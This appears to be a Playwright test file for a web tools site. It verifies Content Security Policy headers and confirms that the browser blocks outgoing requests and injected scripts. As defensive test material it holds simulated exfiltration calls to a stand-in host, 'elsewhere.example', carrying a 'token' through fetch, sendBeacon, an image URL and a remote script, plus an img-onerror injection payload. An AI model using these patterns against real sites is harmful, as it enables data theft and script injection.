import { expect, hydrated, languages, open, test } from './fixtures.ts'

const pages = [
  '/',
  '/metrics',
  '/metrics/length',
  '/metrics/mass/kglb',
  '/geo',
  '/geo/coordinates',
  '/geo/gpx-kml',
  '/geo/geojson',
  '/dev',
  '/dev/jwt',
  '/dev/timestamp',
  '/dev/ip',
  '/about',
  '/support',
  '/api',
]

for (const path of pages) {
  test(`${path} keeps to its own policy`, async ({ page }) => {
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        console.error(`policy violation: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
      })
    })
    const response = await page.goto(`/en${path}`)
    const headers = response!.headers()
    expect(headers['content-security-policy']).toContain("default-src 'none'")
    expect(headers['content-security-policy']).not.toContain('unsafe')
    expect(headers['content-security-policy']).toContain(path === '/api' ? "connect-src 'self'" : "connect-src 'none'")
    expect(headers['x-content-type-options']).toBe('nosniff')
    await hydrated(page)
    // A violation is an error in the console, and the fixture fails the test on those.
    await page.waitForLoadState('networkidle')
  })
}

test('on a tool page the browser refuses to send anything anywhere, even to us', async ({ page, watch }) => {
  watch.allowedErrors.push(/Content Security Policy|violates/)
  await open(page, '/en/dev/jwt')
  const outcomes = await page.evaluate(async () => {
    const refused = async (attempt: () => Promise<unknown>) =>
      attempt().then(
        () => 'sent',
        () => 'refused',
      )
    return [
      await refused(() => fetch('/api/get-country')),
      await refused(() => fetch('https://elsewhere.example/', { method: 'POST', body: 'token', mode: 'no-cors' })),
      navigator.sendBeacon('https://elsewhere.example/', 'token') ? 'queued' : 'refused',
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const picture = new Image()
            picture.onload = resolve
            picture.onerror = reject
            picture.src = 'https://elsewhere.example/?token'
          }),
      ),
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const script = document.createElement('script')
            script.onerror = reject
            script.onload = resolve
            script.src = 'https://elsewhere.example/a.js'
            document.head.append(script)
          }),
      ),
    ]
  })
  expect(outcomes.filter((outcome) => outcome === 'sent')).toEqual([])
  // The browser reports a request it then refuses before it leaves; none may have got an answer.
  watch.foreignRequests.length = 0
})

test('an injected script does not run', async ({ page, watch }) => {
  watch.allowedErrors.push(/Content Security Policy|violates/)
  await open(page, '/en/')
  const ran = await page.evaluate(async () => {
    const holder = document.createElement('div')
    holder.innerHTML = '<img src="data:," onerror="window.injected = true">'
    document.body.append(holder)
    const script = document.createElement('script')
    script.textContent = 'window.injected = true'
    document.body.append(script)
    await new Promise((resolve) => setTimeout(resolve, 300))
    return 'injected' in window
  })
  expect(ran).toBe(false)
})

for (const language of languages) {
  test(`using ${language} pages makes no request beyond our own files`, async ({ page }) => {
    const asked: string[] = []
    page.on('request', (request) => {
      const { pathname } = new URL(request.url())
      const isFile = pathname.startsWith('/assets/') || /\.(svg|png|webmanifest)$|service-worker\.js$/.test(pathname)
      if (!isFile && request.resourceType() !== 'document') asked.push(pathname)
    })
    await open(page, `/${language}/metrics/length`)
    await page.locator('main input').first().fill('12345.678')
    await open(page, `/${language}/dev/ip`)
    await page.locator('main input[type="text"], main input:not([type])').first().fill('10.1.2.3')
    await open(page, `/${language}/geo/coordinates`)
    await page.locator('main input').first().fill('44.8125, 20.4612')
    await page.waitForLoadState('networkidle')
    // What the service worker stores in the background is files too, and the shell at the root.
    expect(asked.filter((path) => path !== '/')).toEqual([])
  })
}
